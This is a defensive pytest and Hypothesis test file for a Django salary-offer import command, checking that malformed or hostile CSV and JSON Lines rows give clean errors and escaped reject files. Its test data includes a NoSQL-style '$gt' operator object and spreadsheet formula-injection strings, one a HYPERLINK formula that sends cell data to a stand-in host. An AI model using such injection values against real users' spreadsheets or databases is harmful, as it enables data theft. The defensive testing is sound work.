"""import_offers on hostile files: a bad line is a row error, a stop says exactly what was
committed, and arbitrary bytes never end in a traceback."""

import csv
import io
import json
import tracemalloc

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from salaries.models import Offer
from salaries.tests.support import GOOD_ROWS, HEADER, run, snapshot, write

pytestmark = pytest.mark.django_db


def jsonl_row(offer_id, **changes) -> bytes:
    record = {
        "offer_id": offer_id,
        "candidate_id": "c1",
        "offered_on": "2024-01-10",
        "specialization": "back-end",
        "technologies": "python",
        "salary": 5000,
        **changes,
    }
    return json.dumps(record).encode()


def csv_row(offer_id: str) -> bytes:
    return f"{offer_id},c1,2024-01-10,back-end,python,5000,".encode()


def offer_ids():
    return sorted(Offer.objects.values_list("offer_id", flat=True))


def read_rejects(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


HOSTILE_LINES = [
    pytest.param("jsonl", b"[" * 20_000 + b"]" * 20_000, "json: not valid here", id="deep-json"),
    pytest.param("jsonl", b'{"offer_id": {"a": ' + b"[" * 20_000 + b"]" * 20_000 + b"}}",
                 "json: not valid here", id="deep-json-value"),
    pytest.param("jsonl", jsonl_row("x").replace(b"5000", b"1" + b"0" * 5000),
                 "salary: must be a whole number", id="5000-digit-salary"),
    pytest.param("jsonl", jsonl_row("x", experience_years=1).replace(b": 1}", b": 1" + b"0" * 5000
                                                                    + b"}"),
                 "experience_years: must be a number of years", id="5000-digit-experience"),
    pytest.param("jsonl", b'{"offer_id": 1' + b"0" * 5000 + b"}", "offer_id: must be at most 64",
                 id="5000-digit-offer-id"),
    pytest.param("jsonl", jsonl_row({"$gt": ""}),
                 "offer_id: must be a string or a number, got a JSON object", id="object-id"),
    pytest.param("jsonl", jsonl_row("x", candidate_id=["c1"]),
                 "candidate_id: must be a string or a number, got a JSON array", id="array-id"),
    pytest.param("jsonl", jsonl_row("x", salary="١٢٣"), "salary: must be a whole number",
                 id="arabic-digits"),
    pytest.param("jsonl", jsonl_row("x").replace(b"5000", b"NaN"), "NaN is not a JSON number",
                 id="nan"),
    pytest.param("jsonl", jsonl_row("x\x00y"), "offer_id: must not contain NUL",
                 id="escaped-nul"),
    pytest.param("jsonl", jsonl_row("x").replace(b"c1", b"c\x001"), "Invalid control character",
                 id="raw-nul-json"),
    pytest.param("jsonl", jsonl_row("x").replace(b"c1", b"c\xe91"), "encoding: not UTF-8 text",
                 id="latin-1-json"),
    pytest.param("csv", csv_row("x").replace(b"c1", b"c\x001"),
                 "candidate_id: must not contain NUL", id="nul-csv"),
    pytest.param("csv", csv_row("x").replace(b"c1", b"c\xe91"), "encoding: not UTF-8 text",
                 id="latin-1-csv"),
    pytest.param("csv", b"\xef\xbb\xbf" + csv_row("x"), "offer_id: must not contain a byte order",
                 id="bom-mid-file"),
    pytest.param("csv", csv_row("x").replace(b"5000", b"1" * 5000),
                 "salary: must be a whole number", id="5000-digit-csv"),
]  # fmt: skip


def hostile_file(tmp_path, fmt, bad):
    """Two good rows, the bad line, two good rows: 4 valid rows, the bad one on line 3
    of a JSON Lines file, line 4 of a CSV file."""
    make = jsonl_row if fmt == "jsonl" else csv_row
    lines = [make("o1"), make("o2"), bad, make("o3"), make("o4")]
    if fmt == "csv":
        lines.insert(0, HEADER.encode())
    path = tmp_path / f"offers.{fmt}"
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path, 3 if fmt == "jsonl" else 4


@pytest.mark.parametrize(("fmt", "bad", "reason"), HOSTILE_LINES)
def test_a_hostile_line_is_a_row_error_and_the_valid_rows_are_imported(tmp_path, fmt, bad, reason):
    path, line = hostile_file(tmp_path, fmt, bad)
    code, out, err = run(path, "--skip-invalid", "--batch-size", "1")
    assert code == 0, err
    assert "Traceback" not in err
    assert f"line {line}: " in err and reason in err
    assert "4 created, 0 updated, 1 rejected" in out
    assert offer_ids() == ["o1", "o2", "o3", "o4"]
    rejects = read_rejects(tmp_path / "offers.rejects.csv")
    assert [row[0] for row in rejects] == ["line", str(line)]
    assert reason in rejects[1][1]


@pytest.mark.parametrize(("fmt", "bad", "reason"), HOSTILE_LINES)
def test_a_hostile_line_writes_nothing_by_default(tmp_path, fmt, bad, reason):
    path, line = hostile_file(tmp_path, fmt, bad)
    code, out, err = run(path, "--batch-size", "1")
    assert code == 1
    assert f"line {line}: " in err and reason in err
    assert "1 invalid rows; nothing was written" in err
    assert "Read 5 rows: 4 valid, 1 invalid" in out
    assert snapshot() == dict.fromkeys(snapshot(), 0)


def test_a_repeated_header_column_is_an_error_naming_it(tmp_path):
    path = write(tmp_path, ["o1,c1,2024-01-10,back-end,python,5000,senior,6000"],
                 header=HEADER + ",salary")  # fmt: skip
    code, _, err = run(path)
    assert code == 1
    assert 'line 1: the header names "salary" 2 times (columns 6, 8)' in err
    assert Offer.objects.count() == 0


def test_a_huge_line_is_refused_unread_with_flat_memory(tmp_path):
    """A 50 MB line costs one row, not the file, and is never held whole: the peak of
    memory allocated during the import stays far below the line's size."""
    path = tmp_path / "offers.csv"
    with path.open("wb") as handle:
        handle.write(HEADER.encode() + b"\n" + csv_row("o1") + b"\n")
        handle.write(b"o2,c1,2024-01-10,back-end,python,")
        for _ in range(50):
            handle.write(b"9" * 1_000_000)
        handle.write(b"\n" + csv_row("o3") + b"\n")
    tracemalloc.start()
    try:
        code, out, err = run(path, "--skip-invalid")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 0
    assert "line 3: length: the line is longer than 65,536 bytes" in err
    assert offer_ids() == ["o1", "o3"]
    assert peak < 5_000_000


def test_a_huge_json_line_is_refused_unread(tmp_path):
    path = tmp_path / "offers.jsonl"
    with path.open("wb") as handle:
        handle.write(jsonl_row("o1") + b'\n{"offer_id": "')
        for _ in range(20):
            handle.write(b"x" * 1_000_000)
        handle.write(b'"}\n' + jsonl_row("o3") + b"\n")
    code, _, err = run(path, "--skip-invalid")
    assert code == 0 and "line 2: length: the line is longer than 65,536 bytes" in err
    assert offer_ids() == ["o1", "o3"]


class FailingStream(io.RawIOBase):
    """Standard input whose reading fails (a disk or pipe error) after some lines."""

    def __init__(self, data: bytes, fail_after: int):
        self.lines, self.fail_after = data.splitlines(keepends=True), fail_after

    def readable(self):
        return True

    def readline(self, size=-1):
        if not self.lines:
            return b""
        if self.fail_after == 0:
            raise OSError(5, "Input/output error")
        self.fail_after -= 1
        return self.lines.pop(0)


@pytest.mark.parametrize("skip", [True, False])
def test_a_read_error_half_way_says_exactly_what_was_committed(tmp_path, monkeypatch, skip):
    data = b"\n".join(jsonl_row(f"o{i}") for i in range(1, 6)) + b"\n"
    stdin = type("Stdin", (), {"buffer": FailingStream(data, fail_after=3)})()
    monkeypatch.setattr("sys.stdin", stdin)
    args = ["-", "--format", "jsonl", "--batch-size", "2"]
    if skip:
        args += ["--skip-invalid", "--rejects", tmp_path / "rejects.csv"]
    code, _, err = run(*args)
    assert code == 1 and "Traceback" not in err
    assert "-: line 4: cannot read the file (Input/output error)" in err
    if skip:
        assert (
            "2 rows were committed before the stop, in 1 batch holding every valid row up to "
            "line 2; nothing after that line was written (importing the file again is safe)"
        ) in err
        assert offer_ids() == ["o1", "o2"]
    else:
        assert err.endswith("; nothing was written")
        assert Offer.objects.count() == 0


def test_a_rejects_file_that_cannot_be_written_stops_with_the_truth(tmp_path, monkeypatch):
    path, _ = hostile_file(tmp_path, "jsonl", b"{broken")

    def full_disk(self, row):
        if row[0] != "line":
            raise OSError(28, "No space left on device")

    monkeypatch.setattr("defusedcsv.csv._ProxyWriter.writerow", full_disk)
    code, _, err = run(path, "--skip-invalid", "--batch-size", "1")
    assert code == 1
    assert "cannot write the rejects file" in err and "No space left on device" in err
    assert "2 rows were committed before the stop, in 2 batches" in err
    assert offer_ids() == ["o1", "o2"]


def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet(tmp_path):
    formulas = [
        '=HYPERLINK("http://example.com/?"&A1,"Click")',
        "+1",
        "-2",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "-2+3",
    ]
    path = tmp_path / "offers.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER.split(","))
        for i, formula in enumerate(formulas):
            # A formula as the offer id and as the bad salary; the candidate is plain.
            writer.writerow([formula, f"c{i}", "2024-01-10", "back-end", "python", formula, ""])
    code, _, _ = run(path, "--skip-invalid")
    assert code == 0
    rejects = read_rejects(tmp_path / "offers.rejects.csv")
    assert [row[2] for row in rejects[1:]] == [
        '\'=HYPERLINK("http://example.com/?"&A1,"Click")',
        "'+1",
        "-2",  # a plain number: a spreadsheet shows -2 and runs nothing
        "'@SUM(1)",
        "'\t=1+1",
        "'\r=1+1",
        "'-2+3",
    ]
    assert [row[2] for row in rejects[1:]] == [row[7] for row in rejects[1:]]
    assert [row[3] for row in rejects[1:]] == [f"c{i}" for i in range(7)]
    assert all(row[1].startswith("salary: ") for row in rejects[1:])


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("offers.jsonl", b"", "the file holds no rows; nothing was written"),
        ("offers.jsonl", b"\n\n  \n", "the file holds no rows; nothing was written"),
        ("offers.csv", (HEADER + "\n").encode(), "the file holds no rows; nothing was written"),
        ("offers.csv", (HEADER + "\r\n\r\n").encode(), "the file holds no rows"),
        ("offers.csv", (HEADER + "\n" + "o1,c1,2024-01-10,qa,x,1,").replace("\n", "\r").encode(),
         "line 1: the lines end in a carriage return alone"),
        ("offers.csv", b"", "the file is empty: expected a header row"),
        ("offers.csv", b"\xef\xbb\xbf\n", "the header lacks required columns"),
    ],
)  # fmt: skip
def test_files_without_rows_are_a_clear_error(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    for args in ([], ["--skip-invalid"], ["--dry-run"]):
        code, _, err = run(path, *args)
        assert code == 1 and message in err and "Traceback" not in err
    assert snapshot() == dict.fromkeys(snapshot(), 0)


def test_paths_that_are_not_readable_files(tmp_path, monkeypatch):
    (tmp_path / "folder.csv").mkdir()
    assert "folder.csv: is a directory, not a file" in run(tmp_path / "folder.csv")[2]
    code, _, err = run("-")
    assert code == 1 and "reading standard input (-) needs --format csv or --format jsonl" in err
    locked = write(tmp_path, GOOD_ROWS, name="locked.csv")

    def refuse(path, mode="r", *args, **kwargs):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr("salaries.management.commands.import_offers.open", refuse, raising=False)
    code, _, err = run(locked)
    assert code == 1 and "locked.csv: cannot read it (Permission denied)" in err


def test_a_failed_default_import_does_not_claim_rows_were_created(tmp_path):
    code, out, _ = run(write(tmp_path, [*GOOD_ROWS, "o9,c9,2024-01-10,new-role,flask,7k,"]))
    assert code == 1
    assert "Read 4 rows: 3 valid, 1 invalid" in out
    assert "created" not in out and "New specializations" not in out


# --- Property: arbitrary bytes give row errors or a clean stop, never a traceback ---

PIECES = [
    csv_row("p1"), jsonl_row("p1"), HEADER.encode(), b"\x00", b"\xef\xbb\xbf", b"\r", b"\r\n",
    b"\xff", b"\xc3", b",", b'"', b";", b"\\u0000", b"\\ud800", b"[" * 2000, b"{" * 2000,
    b"9" * 5000, b"NaN", b"-Infinity", b"1e400", b'{"offer_id": {}}', b'{"salary": true}',
    b"\xd9\xa1\xd9\xa2", b"-2-3", b"all", b"=1+1", b'{"offer_id": "x", "offer_id": "y"}',
]  # fmt: skip
WHOLE_LINES = [
    b"[" * 20_000, b'{"offer_id": ' + b"[" * 5000, jsonl_row("w1").replace(b"5000", b"1" * 5000),
    csv_row("w2").replace(b"5000", b"1" * 5000), jsonl_row({"a": 1}), jsonl_row(["x"]),
    jsonl_row("w3").replace(b"c1", b"c\x001"), csv_row("w4").replace(b"c1", b"c\x001"),
    csv_row("w5").replace(b"c1", b"c\xe9"), jsonl_row("w6").replace(b"c1", b"c\xe9"),
    jsonl_row("w7", salary="\u0661\u0662"), b"x" * 70_000, HEADER.encode(),
]  # fmt: skip
line_bytes = st.one_of(
    st.sampled_from(WHOLE_LINES),
    st.lists(
        st.one_of(
            st.binary(max_size=20),
            st.text(max_size=20).map(lambda text: text.encode("utf-8", "surrogatepass")),
            st.sampled_from(PIECES),
        ),
        max_size=4,
    ).map(b"".join),
)
hostile_files = st.tuples(
    st.sampled_from(["csv", "jsonl"]),
    st.one_of(st.just(HEADER.encode()), line_bytes),  # the CSV header, usually intact
    st.lists(line_bytes, max_size=6),
    st.randoms(use_true_random=False),
)
BAD_ROW = {"csv": b"bad,c1,2024-01-10,back-end,python,7k,", "jsonl": b'{"salary": "7k"}'}


def hostile_bytes(fmt, header, lines, where) -> bytes:
    lines = list(lines)
    lines.insert(where.randint(0, len(lines)), BAD_ROW[fmt])  # never an all-valid file
    if fmt == "csv":
        lines.insert(0, header)
    return where.choice([b"\n", b"\r\n"]).join(lines) + where.choice([b"", b"\n"])


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(hostile_files)
def test_property_arbitrary_bytes_never_crash_and_never_write_by_default(tmp_path, case):
    fmt, header, lines, where = case
    path = tmp_path / f"offers.{fmt}"
    path.write_bytes(hostile_bytes(fmt, header, lines, where))
    code, _, err = run(path, "--batch-size", where.randint(1, 3))  # only CommandError is caught
    assert code == 1 and "Traceback" not in err
    assert "nothing was written" in err
    assert snapshot() == dict.fromkeys(snapshot(), 0)


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(hostile_files)
def test_property_arbitrary_bytes_with_skip_invalid_give_row_errors(tmp_path, case):
    fmt, header, lines, where = case
    path = tmp_path / f"offers.{fmt}"
    path.write_bytes(hostile_bytes(fmt, header, lines, where))
    code, out, err = run(path, "--skip-invalid", "--batch-size", where.randint(1, 3))
    if code == 1:  # a header that cannot be read: a clean stop before any write
        assert fmt == "csv" and header != HEADER.encode()
        assert "nothing was written" in err and "committed" not in err
        return
    rejected = int(out.split(" rejected")[0].rsplit(" ", 1)[1].replace(",", ""))
    assert rejected >= 1
    assert len(read_rejects(tmp_path / "offers.rejects.csv")) == rejected + 1
